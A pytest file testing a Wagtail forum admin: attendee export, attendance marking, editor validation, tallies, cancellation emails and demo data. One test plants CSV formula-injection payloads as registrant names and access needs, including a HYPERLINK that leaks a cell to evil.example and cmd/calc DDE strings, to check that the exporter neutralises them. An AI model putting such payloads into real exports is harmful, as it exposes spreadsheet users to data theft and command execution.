"""Forums in the Wagtail admin: the attendee list and export, the page editor, the demo."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.core.management import call_command
from django.utils import timezone
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

from forums import evidence
from forums.models import ForumEventPage, ForumIndexPage, Registration
from forums.registrations import register
from portal.themes.models import Theme
from tests.conftest import make_user

pytestmark = pytest.mark.django_db


def text(response):
    return re.sub(r"\s+", " ", response.content.decode())


def test_officer_marks_attendance_and_exports(client, make_event, officer, settings):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    event = make_event(capacity=1)
    came = register(event, user=make_user("came@example.org"),
                    access_needs="Wheelchair user")
    register(event, user=make_user("wait@example.org"), join_waiting_list=True)
    client.force_login(officer)
    page = text(client.get(f"/admin/forums/event/{event.pk}/attendees/"))
    assert "Wheelchair user" in page and "Waiting list" in page
    client.post(f"/admin/forums/event/{event.pk}/attendees/", {"attended": [came.pk]})
    came.refresh_from_db()
    assert came.attended
    response = client.get(f"/admin/forums/event/{event.pk}/attendees.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["name", "email", "status"]
    assert rows[1][1:3] == ["came@example.org", "confirmed"] and rows[1][-1] == "yes"
    assert rows[2][1:3] == ["wait@example.org", "waiting"]
    edit = text(client.get(f"/admin/pages/{event.pk}/edit/"))
    assert f"/admin/forums/event/{event.pk}/attendees/" in edit


def test_tampered_attendance_ids_match_nobody_instead_of_failing(client, make_event, officer,
                                                                   settings):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    event = make_event()
    came = register(event, user=make_user("came@example.org"))
    client.force_login(officer)
    response = client.post(f"/admin/forums/event/{event.pk}/attendees/",
                           {"attended": [came.pk, "abc", "-1", "9" * 30]})
    assert response.status_code == 302
    came.refresh_from_db()
    assert came.attended


def test_attendee_csv_cells_cannot_run_formulas(client, make_event, officer, settings):
    """Names and access needs are what people typed: the one safe writer neutralises them."""
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    event = make_event()
    register(event, name=payload, email="x@example.org",
             access_needs="@SUM(1+1)*cmd|' /C calc'!A0")
    register(event, name="\uff1dcmd|' /C calc'!A0", email="y@example.org",
             access_needs="-2+3 step-free")
    client.force_login(officer)
    response = client.get(f"/admin/forums/event/{event.pk}/attendees.csv")
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [row[0] for row in rows[1:]] == ["'" + payload, "'\uff1dcmd|' /C calc'!A0"]
    assert [row[4] for row in rows[1:]] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3 step-free"]


def test_editor_sees_clear_errors_for_bad_dates_and_capacity(client, make_event, officer,
                                                            settings):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    event = make_event(capacity=3)
    register(event, user=make_user("a@example.org"))
    register(event, user=make_user("b@example.org"))
    client.force_login(officer)
    start = timezone.localtime(event.start)
    data = nested_form_data({
        "title": event.title, "slug": event.slug, "summary": "", "format": "in_person",
        "start": start.strftime("%Y-%m-%d %H:%M"),
        "end": (start - timedelta(hours=1)).strftime("%Y-%m-%d %H:%M"),
        "registration_deadline": (start + timedelta(hours=1)).strftime("%Y-%m-%d %H:%M"),
        "venue_name": "Harlesden Library Plus", "venue_address": "", "venue_postcode": "",
        "capacity": "1", "agenda": streamfield([]), "votes_per_person": "3",
        "minutes": rich_text(""), "vote_tallies": inline_formset([]),
        "you_said_we_did": inline_formset([]),
    })
    data["neighbourhoods"] = [n.pk for n in event.neighbourhoods.all()]
    response = client.post(f"/admin/pages/{event.pk}/edit/", data)
    assert response.status_code == 200
    body = text(response)
    assert "The forum must end after it starts" in body
    assert "must not be after the forum starts" in body
    assert "2 people are already registered, so the capacity cannot be less than 2" in body
    assert "This field is required" not in body
    event.refresh_from_db()
    assert event.capacity == 3


def test_editor_records_tallies_and_duplicate_themes_get_an_error(client, make_event, officer,
                                                                 settings):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    event = make_event(days=-2)
    client.force_login(officer)
    start = timezone.localtime(event.start)
    hardship = Theme.objects.get(slug="financial-hardship")

    def post(tallies):
        data = nested_form_data({
            "title": event.title, "slug": event.slug, "summary": "", "format": "in_person",
            "start": start.strftime("%Y-%m-%d %H:%M"),
            "end": (start + timedelta(hours=2)).strftime("%Y-%m-%d %H:%M"),
            "venue_name": "Harlesden Library Plus", "venue_address": "", "venue_postcode": "",
            "agenda": streamfield([]), "votes_per_person": "3", "minutes": rich_text(""),
            "attendance_in_person": "40",
            "vote_tallies": inline_formset(tallies), "you_said_we_did": inline_formset([]),
            "action-publish": "publish",
        })
        data["neighbourhoods"] = [n.pk for n in event.neighbourhoods.all()]
        return client.post(f"/admin/pages/{event.pk}/edit/", data)

    response = post([{"theme": hardship.pk, "dots": "12"}, {"theme": hardship.pk, "dots": "3"}])
    assert response.status_code == 200
    assert "Each theme can have one tally" in text(response)
    assert not list(evidence.rows())
    response = post([{"theme": hardship.pk, "dots": "12"}])
    assert response.status_code == 302
    (row,) = evidence.rows()
    assert (row.theme_id, row.source, row.count) == (hardship.pk, "forum_room", 12)


def test_officer_cancelling_the_forum_in_the_editor_tells_registrants(client, make_event,
                                                                      officer, resident,
                                                                      settings):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    event = make_event()
    register(event, user=resident)
    mail.outbox.clear()
    client.force_login(officer)
    start = timezone.localtime(event.start)
    data = nested_form_data({
        "title": event.title, "slug": event.slug, "summary": "", "format": "in_person",
        "is_cancelled": "on",
        "start": start.strftime("%Y-%m-%d %H:%M"),
        "end": (start + timedelta(hours=2)).strftime("%Y-%m-%d %H:%M"),
        "venue_name": "Harlesden Library Plus", "venue_address": "", "venue_postcode": "",
        "agenda": streamfield([]), "votes_per_person": "3", "minutes": rich_text(""),
        "vote_tallies": inline_formset([]), "you_said_we_did": inline_formset([]),
        "action-publish": "publish",
    })
    data["neighbourhoods"] = [n.pk for n in event.neighbourhoods.all()]
    assert client.post(f"/admin/pages/{event.pk}/edit/", data).status_code == 302
    assert [m.subject for m in mail.outbox] == [f"Forum cancelled: {event.title}"]
    assert Registration.objects.get().status == Registration.CANCELLED
    client.force_login(resident)
    assert "This forum has been cancelled" in text(client.get(event.url))


def test_demo_forums_load_twice(demo_site):
    call_command("load_demo_forums", stdout=io.StringIO())
    call_command("load_demo_forums", stdout=io.StringIO())
    assert ForumIndexPage.objects.filter(locale__language_code="en").count() == 1
    english = ForumEventPage.objects.filter(locale__language_code="en")
    assert english.count() == 10
    assert english.filter(end__lt=timezone.now()).count() == 5
    harlesden_next = english.get(slug="harlesden-forum-next")
    assert harlesden_next.registrations.filter(status="waiting").count() == 2
    assert {row.source for row in evidence.rows()} == {"forum_room", "forum_online"}
    harlesden_themes = {row.theme_id for row in evidence.rows()
                        if row.neighbourhood_id == harlesden_next.neighbourhoods.get().pk}
    assert Theme.objects.get(slug="school-readiness").pk in harlesden_themes
